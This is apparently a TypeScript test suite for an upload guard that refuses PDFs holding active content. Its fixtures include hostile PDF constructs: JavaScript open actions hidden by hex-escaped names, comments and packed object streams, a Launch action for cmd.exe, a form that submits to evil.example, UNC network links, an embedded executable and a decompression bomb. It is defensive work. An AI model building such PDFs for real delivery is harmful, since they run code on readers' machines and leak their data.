import { readFile } from 'node:fs/promises';
import { deflateSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { refusalMessage, type ActiveContent, type UploadRefusal } from '../refusals.ts';
import { objectStream, pdfOfText, pdfWith, streamOf } from './doubles/pdf-files.ts';
import { inspectionOf } from './support/inspection.ts';

const refusalOf = inspectionOf('a.pdf');
const active = (found: ActiveContent): UploadRefusal => ({ reason: 'active-content', found });
const example = (name: string): Promise<Buffer> =>
  readFile(new URL(`./doubles/pdf/${name}.pdf`, import.meta.url));

const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const openAction = (action: string): Buffer => pdfWith({ catalog: `/OpenAction ${action}` });
const annotation = (entries: string): Buffer =>
  pdfWith({ onPage: `/Annots [<< /Type /Annot /Rect [0 0 9 9] ${entries} >>]` });
const packed = (objects: readonly string[], packing?: 'plain' | 'predicted'): Buffer =>
  pdfWith({ catalog: '/OpenAction 10 0 R', more: [objectStream(objects, packing)] });

/** Tests that a file with any of these is refused for this. */
const refuses = (found: ActiveContent, files: readonly (readonly [what: string, content: Buffer])[]) =>
  test.each(files)('GUARD-10 %s', async (_what, content) => {
    expect(await refusalOf(content)).toEqual(active(found));
  });

describe('GUARD-10 active content is refused', () => {
  refuses('pdf-script', [
    ['a script when it is opened', openAction(script)],
    [
      'a script in the list of names',
      pdfWith({ catalog: `/Names << /JavaScript << /Names [(a) ${script}] >> >>` }),
    ],
    [
      'a script in the list of names, elsewhere in the file',
      pdfWith({ catalog: '/Names << /JavaScript 4 0 R >>' }),
    ],
    ['a script when a page is turned', pdfWith({ onPage: `/AA << /O ${script} >>` })],
    ['a script of a form field', annotation(`/Subtype /Widget /FT /Tx /AA << /K ${script} >>`)],
    ['a script after another act', openAction(`<< /S /GoTo /D [3 0 R /Fit] /Next [${script}] >>`)],
    [
      'a script by reference',
      pdfWith({ catalog: '/OpenAction 4 0 R', more: ['<< /S 5 0 R /X 6 0 R >>', '/JavaScript'] }),
    ],
    ['a script, its name in numbers', openAction('<< /S /#4a#61vaScript >>')],
    ['a script, its key in numbers', openAction('<< /S /A#20B /J#53 (app.alert\\(1\\)) >>')],
    ['a script between comments', openAction('<</S%)>>\n/JavaScript%\r/X(1)>>')],
    ['a script behind a string of brackets', openAction('<< /T (a\\)(b)\\\\) /S /JavaScript >>')],
    [
      'a script in a version that was replaced',
      Buffer.concat([openAction(script), pdfOfText('1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n')]),
    ],
    ['a script in a packed object', packed([script])],
    ['a script in a packed object that is not deflated', packed(['<< >>', script], 'plain')],
    ['a script in a packed object with a predictor', packed(['<< >>', script], 'predicted')],
    [
      'a script in a stream that does not say it packs objects',
      pdfWith({ more: [objectStream([script]).replace('/Type /ObjStm', '')] }),
    ],
    [
      'a script in a packed object in a string of another',
      pdfWith({ more: [streamOf('/Type /ObjStm /N 1 /First 5', `10 1 (${script})`)] }),
    ],
    [
      'a script where the table of places may point to, inside a stream',
      pdfWith({ more: [streamOf('', `9 0 obj ${script} endobj`)] }),
    ],
    [
      'a script where the table of places may point to, inside a string',
      pdfWith({ more: [`(9 0 obj ${script} endobj)`] }),
    ],
    ['a script in a dictionary that readers mend', openAction('<< /A /B 5 /S /JavaScript >>')],
    ['a script in brackets that do not match', openAction('<< /A [1 2 >> /S /JavaScript >>')],
    ['a script in the trailer', pdfOfText('', `/OpenAction ${script}`)],
  ]);

  refuses('pdf-program', [['a program', openAction('<< /S /Launch /F (cmd.exe) >>')]]);

  refuses('pdf-form', [
    ['a form that is sent', annotation('/Subtype /Widget /A << /S /SubmitForm /F (https://evil.example) >>')],
    ['a form that fetches data', openAction('<< /S /ImportData /F (a.fdf) >>')],
    ['an XFA form', pdfWith({ catalog: '/AcroForm << /XFA 4 0 R >>' })],
  ]);

  refuses('pdf-elsewhere', [
    ['a file in the network', openAction('<< /S /GoToR /F (\\\\\\\\server\\\\a.pdf) /D [0 /Fit] >>')],
    ['a file inside another', openAction('<< /S /GoToE /D [0 /Fit] >>')],
    ['a link to a file', annotation('/Subtype /Link /A << /S /URI /URI (file://server/a) >>')],
    [
      'a link to a file in UTF-16',
      annotation('/Subtype /Link /A << /S /URI /URI <FEFF005c005c0073005c0061> >>'),
    ],
    [
      'a link that is a script',
      annotation('/Subtype /Link /A << /S /URI /URI (java\\nscript:alert\\(1\\)) >>'),
    ],
    ['a link to the network, packed', packed(['<< /S /URI /URI (\\\\\\\\server\\\\a) >>'])],
    [
      'a link to the network behind a word',
      annotation('/Subtype /Link /A << /S /URI /URI (a\\\\\\\\server\\\\a) >>'),
    ],
    ['a link by reference to nothing', annotation('/Subtype /Link /A << /S /URI /URI 4 0 R >>')],
    ['the network before every link', pdfWith({ catalog: '/URI << /Base (\\\\\\\\server\\\\a) >>' })],
    ['a file by its place', pdfWith({ more: ['<< /Type /Filespec /F (a.pdf) >>'] })],
    ['a file by its place, as some write it', pdfWith({ more: ['<< /Type /FileSpec /F (a.pdf) >>'] })],
    ['a stream that lies in another file', pdfWith({ more: [streamOf('/F (\\\\\\\\server\\\\a)', '')] })],
  ]);

  refuses('pdf-attachment', [
    [
      'a file in the list of names',
      pdfWith({
        catalog: '/Names << /EmbeddedFiles 4 0 R >>',
        more: ['<< /Names [(a.exe) << /F (a.exe) /EF << /F 5 0 R >> >>] >>', streamOf('', 'MZ')],
      }),
    ],
    ['a file', pdfWith({ more: ['<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>'] })],
    ['the bytes of a file', pdfWith({ more: [streamOf('/Type /EmbeddedFile', 'MZ')] })],
    ['a file pinned to a page', annotation('/Subtype /FileAttachment /FS 4 0 R')],
    ['a folder of files', pdfWith({ catalog: '/Collection << /View /D >>' })],
  ]);

  refuses('pdf-media', [
    ['rich media', annotation('/Subtype /RichMedia')],
    ['a film', annotation('/Subtype /Movie /Movie << /F (a.avi) >>')],
    ['a film of the newer kind', openAction('<< /S /Rendition /OP 0 >>')],
    ['a sound', openAction('<< /S /Sound /Sound 4 0 R >>')],
    ['rich media that is set going', openAction('<< /S /RichMediaExecute /TA 4 0 R >>')],
    ['rich media by its content', annotation('/Subtype /Text /RichMediaContent 4 0 R')],
    ['a screen for media', annotation('/Subtype /Screen')],
    ['a view of a 3D model', openAction('<< /S /GoTo3DView /TA 4 0 R >>')],
    ['a 3D model by its stream', annotation('/Subtype /Text /3DD 4 0 R')],
    ['a 3D model', annotation('/Subtype /3D /3DD 4 0 R')],
  ]);

  test.each(['', '-rc4-128', '-aes-128', '-aes-256-r5', '-aes-256'])(
    'GUARD-10 a script that qpdf packed%s, though the file opens without a password',
    async (encryption) => {
      expect(await refusalOf(await example(`packed-script${encryption}`))).toEqual(active('pdf-script'));
    },
  );

  test.each(['rc4-128', 'aes-256'])('GUARD-10 a link to a file, encrypted by %s', async (encryption) => {
    expect(await refusalOf(await example(`file-link-${encryption}`))).toEqual(active('pdf-elsewhere'));
  });
});

describe('GUARD-10 what cannot be checked is refused, in bounded time', () => {
  const bomb = deflateSync(Buffer.alloc(33 * 1024 * 1024, ' '));
  const packing = (entries: string, bytes: Buffer | string): Buffer =>
    pdfWith({ more: [streamOf(`/Type /ObjStm ${entries}`, bytes)] });

  refuses('pdf-unreadable', [
    ['packed objects that fill the memory', packing('/N 1 /First 4 /Filter /FlateDecode', bomb)],
    [
      'packed objects that are not deflated as said',
      packing('/N 1 /First 4 /Filter /FlateDecode', '1 0 <<>>'),
    ],
    [
      'packed objects in a packing that nobody uses for them',
      packing('/N 1 /First 4 /Filter /LZWDecode', 'x'),
    ],
    ['packed objects packed twice', packing('/N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]', 'x')],
    ['packed objects whose number stands elsewhere', packing('/N 2 0 R /First 4', '1 0 <<>>')],
    ['packed objects that begin at two places', packing('/N 1 /First 4 /First 9', '1 0 <<>>')],
    [
      'packed objects that readers mend',
      pdfWith({ more: [objectStream([script]).replace('/Type', '/A /B 5 /Type')] }),
    ],
    ['packed objects whose list is no list', packing('/N 3 /First 4', '1 0 <<>>')],
    ['packed objects without end', packing('/N 99999999 /First 4', '1 0 <<>>')],
    [
      'a row of a predictor wider than what it predicts',

      packing(
        '/N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 9999999999 >>',
        deflateSync(Buffer.from('1 0 <<>>')),
      ),
    ],
    ['lists in lists without end', pdfWith({ more: ['['.repeat(10_000)] })],
    ['an object without end', pdfWith({ more: [`(${'a'.repeat(5_000_000)}`] })],
    [
      'objects that lie in one another',
      pdfWith({ more: ['1 0 obj [ '.repeat(60).concat('1 0 obj ('.repeat(300_000))] }),
    ],
  ]);
});

test('GUARD-10 the refusal says what was found and how to make a clean file', () => {
  const kinds: readonly ActiveContent[] = [
    'pdf-script',
    'pdf-program',
    'pdf-form',
    'pdf-elsewhere',
    'pdf-attachment',
    'pdf-media',
    'pdf-unreadable',
  ];
  for (const found of kinds) {
    expect(refusalMessage(active(found))).toMatch(
      /^This PDF .+\. Open it and print it to PDF, then send that file\./,
    );
  }
  expect(refusalMessage(active('pdf-script'))).toBe(
    'This PDF contains a script (JavaScript), a small program that can run when the file is opened. Open it and print it to PDF, then send that file.',
  );
});
